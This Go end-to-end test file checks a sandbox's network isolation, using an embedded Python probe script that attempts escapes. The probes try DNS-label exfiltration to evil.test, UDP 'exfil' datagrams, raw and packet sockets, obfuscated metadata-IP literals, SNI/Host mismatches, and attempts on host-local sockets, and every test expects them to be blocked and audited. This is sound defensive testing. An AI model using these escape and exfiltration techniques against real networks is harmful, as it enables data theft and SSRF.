package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/vishvananda/netlink"
)

// np names the network tests' pods. Pod names also name cgroups, which are
// shared by every state directory: a name of this process's own keeps a
// concurrent test run's pod "p" from sharing (and killing) a group with ours.
var np = fmt.Sprintf("net%d", os.Getpid())

// probe.py is the attacker's toolbox inside the pod: raw sockets, no
// proxy library, every spelling under the attacker's control. Each
// command prints one line.
const probePy = `import socket, struct, sys

def dnsq(server, proto, name, sep="."):
    q = struct.pack(">HHHHHH", 0x4a4a, 0x0100, 1, 0, 0, 0)
    for label in name.split(sep):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    if proto == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(q, (server, 53))
        r = s.recv(4096)
    else:
        s = socket.create_connection((server, 53), 3)
        s.sendall(struct.pack(">H", len(q)) + q)
        r = s.recv(4096)[2:]
    return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])

def dnsl(server, labels):
    # labels separated by "|": a label may hold a dot
    return dnsq(server, "udp", labels, "|")

def direct(host, port, hosthdr):
    s = socket.create_connection((host, int(port)), 3)
    s.settimeout(3)
    s.sendall(("GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % hosthdr).encode())
    data = s.recv(4096)
    return data.split(b"\r\n")[0].decode() if data else "EOF"

def pconnect(target):
    s = socket.create_connection(("127.0.0.1", 3128), 3)
    s.settimeout(5)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    data = s.recv(4096)
    return data.split(b"\r\n")[0].decode() if data else "EOF"

def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfil", (host, int(port)))
    return "sent"

def udp6(host, port):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"exfil", (host, int(port)))
    return "sent"

def raw(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))
    return "sent"

def raw6(host):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.sendto(b"\x80\x00\x00\x00\x00\x00\x00\x00", (host, 0))
    return "sent"

def rawudp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.sendto(b"\x30\x39\x27\x0f\x00\x0d\x00\x00exfil", (host, 0))
    return "sent"

def ping(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))
    return "sent"

def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind(("lo", 0))
    return "opened"

def packetdgram():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    return "opened"

def ping6(host):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    s.sendto(b"\x80\x00\x00\x00\x00\x00\x00\x00", (host, 0))
    return "sent"

def inetpacket():
    # the obsolete spelling of a packet socket, which the kernel honours
    s = socket.socket(socket.AF_INET, 10, socket.htons(3))
    return "opened"

def rawloop(n):
    for i in range(int(n)):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
            return "opened"
        except PermissionError:
            pass
    return "refused"

def serve(l):
    import threading
    def run():
        c, _ = l.accept()
        c.sendall(c.recv(64))
    threading.Thread(target=run, daemon=True).start()

def ownunix(addr):
    # a listener of the pod's own and a connect to it: must keep working
    if addr.startswith("@"):
        addr = "\0" + addr[1:]
    l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    l.bind(addr)
    l.listen(1)
    serve(l)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(addr)
    s.sendall(b"echo")
    return "connected " + s.recv(64).decode()

def unix(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect("\0" + name)
    s.sendall(b"hello from the pod")
    return "connected"

label, cmd, args = sys.argv[1], sys.argv[2], sys.argv[3:]
try:
    out = globals()[cmd](*args)
except Exception as e:
    out = "error %s %s" % (type(e).__name__, e)
print(label, out.replace("\n", " "))
`

// runProbes runs script (lines of shell using the helpers c and p) in the
// pod and returns each labelled line of output.
func (e *env) runProbes(pod, script string) map[string]string {
	e.t.Helper()
	e.write("probe.py", probePy)
	const prelude = `c() { l=$1; shift; o=$(curl -fsS --max-time 6 "$@" 2>&1); rc=$?; echo "$l rc=$rc" $o; }
p() { /usr/bin/python3 probe.py "$@"; }
`
	r := e.run("", "run", pod, "-T", "--", "sh", "-c", prelude+script)
	if r.code != 0 {
		e.t.Fatalf("probe script: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	e.t.Logf("probes:\n%s", r.stdout)
	got := map[string]string{}
	for _, line := range strings.Split(r.stdout, "\n") {
		if label, rest, ok := strings.Cut(line, " "); ok {
			got[label] = rest
		}
	}
	return got
}

// wantOK and wantFail check one probe's outcome; a missing label fails.
func wantOK(t *testing.T, got map[string]string, label, body string) {
	t.Helper()
	out, ok := got[label]
	if !ok || !strings.HasPrefix(out, "rc=0") || !strings.Contains(out, body) {
		t.Errorf("%s: want success with %q, got %q", label, body, out)
	}
}

func wantCurlFail(t *testing.T, got map[string]string, label string) {
	t.Helper()
	out, ok := got[label]
	if !ok || strings.HasPrefix(out, "rc=0") || strings.Contains(out, "hello") {
		t.Errorf("SECURITY %s: want failure, got %q", label, out)
	}
}

func wantProbeFail(t *testing.T, got map[string]string, label string) {
	t.Helper()
	out, ok := got[label]
	if !ok || strings.Contains(out, " 200 ") || strings.HasPrefix(out, "connected") || strings.Contains(out, "hello") {
		t.Errorf("SECURITY %s: want failure, got %q", label, out)
	}
}

// Allowed names work over HTTP and HTTPS, through the proxy variables and
// around them (transparent interception), and every attempt is audited.
func TestNetAllowedNames(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test", "*.allowed.test")
	e.must("init", np)
	got := e.runProbes(np, `
c proxy-http http://allowed.test/
c proxy-https --cacert ca.pem https://www.allowed.test/
c direct-http --noproxy '*' http://allowed.test/
c direct-https --noproxy '*' --cacert ca.pem https://www.allowed.test/
c denied-name http://evil.test/
c denied-name-direct --noproxy '*' http://evil.test/
`)
	wantOK(t, got, "proxy-http", "hello allowed.test from web")
	wantOK(t, got, "proxy-https", "hello www.allowed.test from web")
	wantOK(t, got, "direct-http", "hello allowed.test from web")
	wantOK(t, got, "direct-https", "hello www.allowed.test from web")
	wantCurlFail(t, got, "denied-name")
	wantCurlFail(t, got, "denied-name-direct")

	evs := e.audit(np)
	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "allowed.test")
	e.wantAudit(evs, "net.connect", "allow", "path:connect", "www.allowed.test")
	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:allowed.test", n.web.String())
	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "www.allowed.test")
	e.wantAudit(evs, "net.dns", "allow", "name:allowed.test")
	e.wantAudit(evs, "net.dns", "deny", "name:evil.test")
	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:evil.test")
	e.must("audit", "verify", np)
}

// IP literals, direct or through the proxy in any spelling, names that
// resolve to loopback/private/metadata addresses, and an allowed Host sent
// to an address the name does not have: all refused and audited.
func TestNetLiteralsAndRebinding(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test", "*.allowed.test")
	e.must("init", np)
	web, other := n.web.String(), n.other.String()
	got := e.runProbes(np, fmt.Sprintf(`
c lit-direct --noproxy '*' http://%[1]s/
c lit-proxy http://%[1]s/
c lit-tunnel -p --cacert ca.pem https://%[1]s/
p raw-lit direct %[1]s 80 %[1]s
p raw-lit-allowedhost direct %[2]s 80 allowed.test
p raw-lit-https-port direct %[2]s 443 allowed.test
c other-addr --noproxy '*' --resolve allowed.test:80:%[2]s http://allowed.test/
p mapped pconnect [::ffff:a9fe:a9fe]:443
p decimal pconnect 2852039166:443
p octal pconnect 0251.0376.0251.0376:443
p hex pconnect 0xa9fea9fe:443
p meta pconnect 169.254.169.254:80
p short pconnect 127.1:443
p v6loop pconnect [::1]:443
p web-literal pconnect %[1]s:443
c rebind-loop http://loop.allowed.test/
c rebind-ten http://ten.allowed.test/
c rebind-meta http://meta.allowed.test/
c rebind-six http://six.allowed.test/
c rebind-loop-direct --noproxy '*' http://loop.allowed.test/
c rebind-meta-direct --noproxy '*' http://meta.allowed.test/
c rebind-tunnel -p http://loop.allowed.test/
p port direct %[1]s 9999 allowed.test
p mapped-direct direct ::ffff:%[1]s 80 allowed.test
p mapped-other direct ::ffff:%[2]s 80 allowed.test
p host-dot direct %[2]s 80 allowed.test.
p host-port direct %[2]s 80 allowed.test:80
`, web, other))
	for _, l := range []string{"lit-direct", "lit-proxy", "lit-tunnel", "other-addr", "rebind-loop", "rebind-ten",
		"rebind-meta", "rebind-six", "rebind-loop-direct", "rebind-meta-direct", "rebind-tunnel"} {
		wantCurlFail(t, got, l)
	}
	for _, l := range []string{"raw-lit", "raw-lit-allowedhost", "raw-lit-https-port", "mapped", "decimal", "octal",
		"hex", "meta", "short", "v6loop", "web-literal", "port", "mapped-other", "host-dot", "host-port"} {
		wantProbeFail(t, got, l)
	}
	for _, l := range []string{"mapped", "decimal", "octal", "hex", "meta", "short", "v6loop", "web-literal"} {
		if !strings.Contains(got[l], "403") {
			t.Errorf("%s: CONNECT should be answered 403, got %q", l, got[l])
		}
	}
	if k := n.Strays(); k != 0 {
		t.Errorf("SECURITY: %d connections reached port 9999 of the test internet", k)
	}
	// A v4-mapped destination on an IPv6 socket is IPv4 on the wire and
	// goes through the same checks: the right address passes, another not.
	if !strings.Contains(got["mapped-direct"], "200") {
		t.Errorf("mapped-direct: an allowed name at its own address, v4-mapped, got %q", got["mapped-direct"])
	}

	evs := e.audit(np)
	e.wantAudit(evs, "net.leak", "deny", "addr:"+web, "port:80")
	e.wantAudit(evs, "net.leak", "deny", "addr:"+other, "host:allowed.test")
	e.wantAudit(evs, "net.leak", "deny", "addr:"+web, "port:9999")
	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:"+web)
	for _, lit := range []string{"::ffff:a9fe:a9fe", "2852039166", "0251.0376.0251.0376", "0xa9fea9fe", "127.1"} {
		e.wantAudit(evs, "net.connect", "deny", "path:connect", lit)
	}
	for _, name := range []string{"loop.allowed.test", "ten.allowed.test", "meta.allowed.test", "six.allowed.test"} {
		e.wantAudit(evs, "net.connect", "deny", "host:"+name)
	}
}

// DNS as a channel: a denied name carrying data in its labels, asked of
// the pod's resolver, of the authoritative server directly (UDP and TCP)
// and of another address (a resolver of the pod's choosing), never reaches
// the authoritative server. Other UDP is dropped.
func TestNetDNSExfiltration(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test")
	e.must("init", np)
	web := n.web.String()
	got := e.runProbes(np, fmt.Sprintf(`
p via-resolver dnsq 127.0.0.1 udp secretdata123.evil.test
p auth-udp dnsq %[1]s udp secretdata124.evil.test
p auth-tcp dnsq %[1]s tcp secretdata125.evil.test
p public-udp dnsq %[2]s udp secretdata126.evil.test
p allowed-auth dnsq %[1]s udp allowed.test
p udp-other udp %[1]s 9999
`, web, n.other))
	for _, l := range []string{"via-resolver", "auth-udp", "auth-tcp", "public-udp"} {
		if !strings.Contains(got[l], "rcode=3") {
			t.Errorf("%s: want NXDOMAIN from the wall, got %q", l, got[l])
		}
	}
	// A query for an allowed name sent to the authoritative server's
	// address is answered too, by the wall, through its upstream.
	if !strings.Contains(got["allowed-auth"], "rcode=0 answers=1") {
		t.Errorf("allowed-auth: want an answer, got %q", got["allowed-auth"])
	}
	if !strings.HasPrefix(got["udp-other"], "error PermissionError") {
		t.Errorf("udp-other: want EPERM from the drop rule, got %q", got["udp-other"])
	}
	time.Sleep(100 * time.Millisecond) // let any stray datagram land
	for _, q := range n.Queries() {
		if strings.Contains(q, "secretdata") {
			t.Errorf("SECURITY: the authoritative server was asked %q", q)
		}
	}
	if k := n.Strays(); k != 0 {
		t.Errorf("SECURITY: %d datagrams reached port 9999 of the test internet", k)
	}
	evs := e.audit(np)
	for i := 123; i <= 126; i++ {
		e.wantAudit(evs, "net.dns", "deny", fmt.Sprintf("name:secretdata%d.evil.test", i))
	}
}

// TLS through a CONNECT tunnel to an allowed host must name that host in
// its SNI, and a plain request its Host, even when the other name is
// allowed too and the certificate covers both; transparently, an SNI or
// Host of a denied name is refused.
func TestNetSNIMismatch(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test", "www.allowed.test")
	e.must("init", np)
	web := n.web.String()
	got := e.runProbes(np, fmt.Sprintf(`
c control --cacert ca.pem https://allowed.test/
c tunnel-denied-sni --cacert ca.pem --connect-to evil.test:443:allowed.test:443 https://evil.test/
c tunnel-allowed-sni --cacert ca.pem --connect-to www.allowed.test:443:allowed.test:443 https://www.allowed.test/
c tunnel-no-sni --cacert ca.pem --connect-to %[1]s:443:allowed.test:443 -k https://%[1]s/
c transparent-denied-sni --noproxy '*' --cacert ca.pem --resolve evil.test:443:%[1]s https://evil.test/
c tunnel-host -p -H 'Host: evil.test' http://allowed.test/
c tunnel-host-allowed -p -H 'Host: www.allowed.test' http://allowed.test/
c transparent-host --noproxy '*' -H 'Host: evil.test' http://allowed.test/
c forward-host -H 'Host: evil.test' http://allowed.test/
`, web))
	wantOK(t, got, "control", "hello allowed.test")
	for _, l := range []string{"tunnel-denied-sni", "tunnel-allowed-sni", "tunnel-no-sni", "transparent-denied-sni",
		"tunnel-host", "tunnel-host-allowed", "transparent-host"} {
		wantCurlFail(t, got, l)
	}
	// Through the forward proxy the request goes to the checked name: the
	// server sees allowed.test, whatever Host the client wrote.
	wantOK(t, got, "forward-host", "hello allowed.test from web")
	evs := e.audit(np)
	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:allowed.test", "evil.test")
	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:allowed.test", "www.allowed.test")
	e.wantAudit(evs, "net.leak", "deny", "host:evil.test")
	e.wantAudit(evs, "net.connect", "deny", "path:connect", "port:80", "HTTP Host", "evil.test")
	e.wantAudit(evs, "net.connect", "deny", "path:connect", "port:80", "HTTP Host", "www.allowed.test")
	e.wantAudit(evs, "net.leak", "deny", "path:transparent", "port:80", "host:evil.test")
}

// Services the host keeps to itself, an abstract unix socket and a TCP
// listener on the host's loopback, are out of a pod's reach, directly or
// through the proxy, even with their port allowed.
func TestNetHostLocalServices(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	name, accepted := abstractListener(t)
	tcp, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer tcp.Close()
	tcpHits := make(chan struct{}, 16)
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			tcpHits <- struct{}{}
			c.Close()
		}
	}()
	port := tcp.Addr().(*net.TCPAddr).Port
	e.netConfig(n, fmt.Sprintf("  ports: [80, 443, %d]\n", port), "allowed.test", "*.allowed.test", "localhost")
	e.must("init", np)
	got := e.runProbes(np, fmt.Sprintf(`
p abstract unix %[1]s
p own-abstract ownunix @airlock-own-%[4]d
p own-path ownunix /tmp/own.sock
c allowed-https --noproxy '*' --cacert ca.pem https://www.allowed.test/
p loop-direct direct 127.0.0.1 %[2]d localhost
p loop-connect pconnect 127.0.0.1:%[2]d
p localhost-connect pconnect localhost:%[2]d
p hostside-direct direct %[3]s %[2]d allowed.test
c loop-proxy http://localhost:%[2]d/
`, name, port, n.host, os.Getpid()))
	if !strings.HasPrefix(got["abstract"], "error ConnectionRefusedError") {
		t.Errorf("SECURITY: the pod reached the host's abstract socket @%s: %q", name, got["abstract"])
	}
	if got["own-abstract"] != "connected echo" || got["own-path"] != "connected echo" {
		t.Errorf("the pod's own unix sockets: abstract %q, path %q; want both connected", got["own-abstract"], got["own-path"])
	}
	wantOK(t, got, "allowed-https", "hello www.allowed.test from web")
	if k := accepted(); k != 0 {
		t.Errorf("SECURITY: the host's abstract socket accepted %d connections from the pod", k)
	}
	for _, l := range []string{"loop-direct", "loop-connect", "localhost-connect", "hostside-direct"} {
		wantProbeFail(t, got, l)
	}
	wantCurlFail(t, got, "loop-proxy")
	if len(tcpHits) != 0 {
		t.Errorf("SECURITY: the host's loopback listener accepted %d connections from the pod", len(tcpHits))
	}
	evs := e.audit(np)
	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:localhost")
	e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:127.0.0.1")
	e.wantAudit(evs, "net.leak", "deny", "addr:"+n.host.String())
	// The attempt on the host's abstract socket is on record with the
	// name and who tried; the pod's own sockets are not.
	e.wantAudit(evs, "net.abstract", "deny", "name:@"+name+" ", "comm:python3")
	for _, ev := range evs {
		if ev.Action == "net.abstract" && strings.Contains(fmt.Sprint(ev.Details), "airlock-own-") {
			t.Errorf("the pod's own abstract socket was audited as an attack: %v", ev.Details)
		}
	}
	e.must("audit", "verify", np)
}

// abstractListener listens on a fresh abstract unix socket of the host and
// counts connections.
func abstractListener(t *testing.T) (string, func() int) {
	t.Helper()
	name := fmt.Sprintf("airlock-test-%d", rand.Int64())
	l, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	count := make(chan int, 1)
	count <- 0
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			count <- <-count + 1
			// Read before closing so the pod's write cannot race the close.
			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
			_, _ = c.Read(make([]byte, 64))
			c.Close()
		}
	}()
	return name, func() int { k := <-count; count <- k; return k }
}

// The policy changes while the pod runs: allow makes a denied name work,
// deny blocks it again, with no restart, and the change is kept.
func TestNetLivePolicy(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test")
	e.must("init", np)
	for _, lit := range []string{"10.0.0.1", "2852039166", "0x7f.1", "*.127.0.0.1"} {
		e.expect(2, "IP address", "net", np, "allow", lit)
	}
	e.expect(2, "not a valid host name", "net", np, "allow", "evil.test/x")
	e.expect(2, "unknown action", "net", np, "permit", "evil.test")
	// One probe per line read: through the proxy, then around it.
	r := e.start("run", np, "-T", "--", "sh", "-c", `while read name; do
  for m in proxy direct; do
    if [ $m = direct ]; then np='*'; else np=''; fi
    if out=$(curl -fsS --max-time 5 --noproxy "$np" http://$name/ 2>&1); then echo "$m ok $out"; else echo "$m fail"; fi
  done
done`)
	ask := func(name string) string {
		t.Helper()
		if _, err := io.WriteString(r.stdin, name+"\n"); err != nil {
			t.Fatal(err)
		}
		return r.next() + " | " + r.next()
	}
	if got := ask("live.test"); strings.Contains(got, "ok") {
		t.Fatalf("live.test reachable before it was allowed: %s", got)
	}
	if out := e.must("net", np, "allow", "live.test").stdout; !strings.Contains(out, "in effect now") {
		t.Errorf("net allow on a running pod: %q", out)
	}
	if got := ask("live.test"); got != "proxy ok hello live.test from web | direct ok hello live.test from web" {
		t.Errorf("after net allow: %s", got)
	}
	e.must("net", np, "deny", "live.test")
	if got := ask("live.test"); strings.Contains(got, "ok") {
		t.Errorf("SECURITY: live.test still reachable after net deny: %s", got)
	}
	if got := ask("allowed.test"); strings.Count(got, " ok ") != 2 {
		t.Errorf("allowed.test after the changes: %s", got)
	}
	e.must("net", np, "allow", "open.test")
	if got := ask("open.test"); strings.Count(got, " ok ") != 2 {
		t.Errorf("open.test after net allow: %s", got)
	}
	e.must("net", np, "rm", "open.test")
	if got := ask("open.test"); strings.Contains(got, "ok") {
		t.Errorf("SECURITY: open.test still reachable after net rm: %s", got)
	}
	var pol struct {
		Mode        string
		Allow, Deny []string
	}
	if err := json.Unmarshal([]byte(e.must("net", np, "ls", "--json").stdout), &pol); err != nil {
		t.Fatal(err)
	}
	if !contains(pol.Deny, "live.test") || contains(pol.Allow, "live.test") || !contains(pol.Allow, "allowed.test") || contains(pol.Allow, "open.test") {
		t.Errorf("net ls --json: %+v", pol)
	}
	r.stop()
	// Kept in the pod's config: the next run starts with it.
	cfg, err := os.ReadFile(filepath.Join(e.home, "pods", np, "pod.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(cfg), "live.test") {
		t.Errorf("pod config lacks live.test:\n%s", cfg)
	}
	got := e.runProbes(np, "c again http://live.test/\n")
	wantCurlFail(t, got, "again")

	evs := e.audit(np)
	e.wantAudit(evs, "net.allow", "ok", "live.test")
	e.wantAudit(evs, "net.deny", "ok", "live.test")
	e.wantAudit(evs, "net.rm", "ok", "open.test")
	e.wantAudit(evs, "net.reload", "ok", "live.test")
	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "host:live.test")
	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:live.test")
	e.wantAudit(evs, "net.dns", "deny", "name:live.test")
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// A published pod port is reachable from the host: on 127.0.0.1 when no
// address is given (and on no other address of the host), for a dev server
// bound to 127.0.0.1 or to ::1. Nothing listens once the pod stops.
func TestNetPublish(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	port, port6, portCfg := freePort(t), freePort(t), freePort(t)
	// network.publish takes -p's short form too: loopback only.
	e.write("airlock.yaml", fmt.Sprintf("version: 1\nnetwork:\n  publish: [\"%d:8082\"]\n", portCfg))
	e.must("init", np)
	e.write("served.txt", "served from the pod\n")
	// The servers stop when the test closes stdin.
	r := e.start("run", np, "-T", "-p", fmt.Sprintf("%d:8080", port), "-p", fmt.Sprintf("127.0.0.1:%d:8081", port6), "--", "sh", "-c",
		"/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 2>/dev/null & a=$!; /usr/bin/python3 -m http.server 8081 --bind ::1 2>/dev/null & b=$!; "+
			"/usr/bin/python3 -m http.server 8082 --bind 127.0.0.1 2>/dev/null & c=$!; cat >/dev/null; kill $a $b $c")
	for _, p := range []int{port, port6, portCfg} {
		url := fmt.Sprintf("http://127.0.0.1:%d/served.txt", p)
		var body string
		waitFor(t, func() bool {
			resp, err := http.Get(url)
			if err != nil {
				return false
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			body = string(b)
			return resp.StatusCode == 200
		})
		if body != "served from the pod\n" {
			t.Errorf("published port %d served %q", p, body)
		}
	}
	// The host's other addresses do not publish the pod (here: the host's
	// side of the test internet).
	for _, p := range []int{port, portCfg} {
		if c, err := net.DialTimeout("tcp", net.JoinHostPort(n.host.String(), fmt.Sprint(p)), time.Second); err == nil {
			c.Close()
			t.Errorf("SECURITY: publication %d is reachable on %s, not only 127.0.0.1", p, n.host)
		}
	}
	r.stop()
	for _, p := range []int{port, port6, portCfg} {
		if c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p), time.Second); err == nil {
			c.Close()
			t.Errorf("port %d still published after the pod stopped", p)
		}
	}
	e.expect(2, "HOST_PORT:POD_PORT", "run", np, "-T", "-p", "8080", "--", "true")
}

func freePort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// Mode none: loopback works, nothing else exists.
func TestNetModeNone(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "  mode: none\n", "allowed.test")
	e.must("init", np)
	got := e.runProbes(np, fmt.Sprintf(`
c name http://allowed.test/
p literal direct %[1]s 80 allowed.test
p proxy pconnect allowed.test:443
p dns dnsq %[1]s udp secretdata127.evil.test
p udp udp %[1]s 9999
echo links $(tail -n +3 /proc/net/dev | cut -d: -f1)
/usr/bin/python3 -c 'import socket; l=socket.socket(); l.bind(("127.0.0.1",0)); l.listen(); c=socket.create_connection(l.getsockname()); print("loopback ok")'
`, n.web))
	wantCurlFail(t, got, "name")
	for _, l := range []string{"literal", "proxy", "dns", "udp"} {
		if !strings.HasPrefix(got[l], "error") {
			t.Errorf("SECURITY %s in mode none: %q", l, got[l])
		}
	}
	if strings.TrimSpace(got["links"]) != "lo" {
		t.Errorf("links in mode none: %q, want only lo", got["links"])
	}
	if got["loopback"] != "ok" {
		t.Errorf("loopback in mode none: %q", got["loopback"])
	}
	for _, q := range n.Queries() {
		if strings.Contains(q, "secretdata") {
			t.Errorf("SECURITY: the authoritative server was asked %q", q)
		}
	}
	if k := n.Strays(); k != 0 {
		t.Errorf("SECURITY: %d packets reached the test internet in mode none", k)
	}
	if st := e.must("status", np, "--json").stdout; !strings.Contains(st, `"up (none)"`) {
		t.Errorf("status walls in mode none: %s", st)
	}
}

// Mode host: the pod shares the host's network, and says so loudly. The
// abstract socket the filtered pod could not reach is reachable here,
// which shows that test's probe works.
func TestNetModeHost(t *testing.T) {
	e := newEnv(t)
	e.write("airlock.yaml", "version: 1\nnetwork:\n  mode: host\n")
	name, accepted := abstractListener(t)
	e.must("init", np)
	r := e.run("", "run", np, "-T", "--", "true")
	if r.code != 0 || !strings.Contains(strings.ToLower(r.stderr), "host") {
		t.Errorf("run in mode host: exit %d, want a warning on stderr, got %q", r.code, r.stderr)
	}
	got := e.runProbes(np, "p abstract unix "+name+"\n")
	if got["abstract"] != "connected" || accepted() == 0 {
		t.Errorf("mode host: the host's abstract socket should be reachable: %q", got["abstract"])
	}
	var st struct{ Walls map[string]string }
	if err := json.Unmarshal([]byte(e.must("status", np, "--json").stdout), &st); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(st.Walls["network"], "OFF") {
		t.Errorf("status walls network in mode host: %q", st.Walls["network"])
	}
	e.wantAudit(e.audit(np), "wall.network", "warning", "mode:host")
}

// Raw and packet sockets, pings, and UDP other than DNS, over IPv4 and
// IPv6: none of it leaves the pod (the test internet counts arrivals).
func TestNetRawPacketUDP(t *testing.T) {
	e := newEnv(t)
	n := newInet(t)
	e.netConfig(n, "", "allowed.test")
	e.must("init", np)
	got := e.runProbes(np, fmt.Sprintf(`
p raw raw %[1]s
p raw6 raw6 %[2]s
p rawudp rawudp %[1]s
p ping ping %[1]s
p packet packet
p packetdgram packetdgram
p ping6 ping6 %[2]s
p inetpacket inetpacket
p rawloop rawloop 200
p udp udp %[1]s 9999
p quic udp %[1]s 443
p ntp udp %[1]s 123
p udp6 udp6 %[2]s 9999
p udp-mapped udp6 ::ffff:%[1]s 9999
p own-resolver udp %[1]s 5353
`, n.web, n.web6))
	for _, l := range []string{"raw", "raw6", "rawudp", "ping", "packet", "packetdgram", "udp", "quic", "ntp", "udp6", "udp-mapped", "own-resolver"} {
		if !strings.HasPrefix(got[l], "error") {
			t.Errorf("SECURITY %s: want an error, got %q", l, got[l])
		}
	}
	// Sockets the pod may not have fail with EPERM, as without a filter
	// listening; 200 tries in a row change nothing.
	for _, l := range []string{"raw", "raw6", "rawudp", "ping", "ping6", "packet", "packetdgram", "inetpacket"} {
		if !strings.HasPrefix(got[l], "error PermissionError") {
			t.Errorf("SECURITY %s: want PermissionError (EPERM), got %q", l, got[l])
		}
	}
	if got["rawloop"] != "refused" {
		t.Errorf("SECURITY rawloop: %q", got["rawloop"])
	}
	time.Sleep(300 * time.Millisecond) // let any stray packet land
	if k := n.Strays(); k != 0 {
		t.Errorf("SECURITY: %d packets reached the test internet", k)
	}
	// Seccomp refuses raw, packet and ping sockets before a packet exists,
	// and the supervisor records each attempt with what was asked and by
	// whom; the UDP datagrams reach the rules, which drop them and say so.
	evs := e.audit(np)
	for _, want := range [][]string{
		{"kind:raw", "family:AF_INET ", "type:SOCK_RAW", "protocol:icmp "},
		{"kind:raw", "family:AF_INET6 ", "type:SOCK_RAW", "protocol:icmpv6 "},
		{"kind:raw", "family:AF_INET ", "type:SOCK_RAW", "protocol:udp "},
		{"kind:ping", "family:AF_INET ", "type:SOCK_DGRAM", "protocol:icmp "},
		{"kind:ping", "family:AF_INET6 ", "type:SOCK_DGRAM", "protocol:icmpv6 "},
		{"kind:packet", "family:AF_PACKET ", "type:SOCK_RAW", "protocol:ethertype 0x0003 "},
		{"kind:packet", "family:AF_PACKET ", "type:SOCK_DGRAM", "protocol:ethertype 0x0800 "},
		{"kind:packet", "family:AF_INET ", "type:SOCK_PACKET"},
	} {
		e.wantAudit(evs, "net.socket", "deny", append(want, "comm:python3", "pid:")...)
	}
	// The loop of 200 is a few records, their counts adding up.
	loop, records := 0, 0
	for _, ev := range evs {
		if d := fmt.Sprint(ev.Details); ev.Action == "net.socket" && strings.Contains(d, "protocol:tcp ") {
			records++
			n := 1
			if c, ok := ev.Details["count"].(float64); ok {
				n = int(c)
			}
			loop += n
		}
	}
	if loop != 200 || records > 20 {
		t.Errorf("200 raw socket attempts are %d records counting %d", records, loop)
	}
	// The counts are written before run.exit: the trail tells the run's
	// attempts in the order they happened.
	exited := false
	for _, ev := range evs {
		exited = exited || ev.Action == "run.exit"
		if exited && ev.Action == "net.socket" {
			t.Errorf("a net.socket record after run.exit: %v", ev.Details)
		}
	}
	e.must("audit", "verify", np)
	web, web6 := n.web.String(), n.web6.String()
